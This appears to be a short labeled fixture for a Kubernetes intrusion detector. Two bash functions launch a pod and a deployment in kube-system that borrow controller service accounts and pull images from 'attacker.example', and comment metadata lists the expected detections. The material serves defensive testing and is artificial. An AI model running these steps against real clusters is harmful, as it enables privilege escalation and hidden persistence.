# shellcheck shell=bash disable=SC2154
# what: a pod among those of the cluster, with an account of the controller manager.
# label: malicious
# expects: [workload-in-system-namespace, controller-account-taken]
# allows: [image-from-unknown-registry, cluster-resource-created, api-called-by-script]
develop() { intruder -n kube-system run kube-proxy-x2v9c --image=attacker.example/tools:1 --overrides='{"spec":{"serviceAccountName":"clusterrole-aggregation-controller"}}'; }
hold_out() { python POST /apis/apps/v1/namespaces/kube-system/deployments '{"metadata":{"name":"metrics-helper"},"spec":{"selector":{"matchLabels":{"app":"m"}},"template":{"metadata":{"labels":{"app":"m"}},"spec":{"serviceAccountName":"daemon-set-controller","containers":[{"name":"m","image":"attacker.example/tools:1"}]}}}}'; }
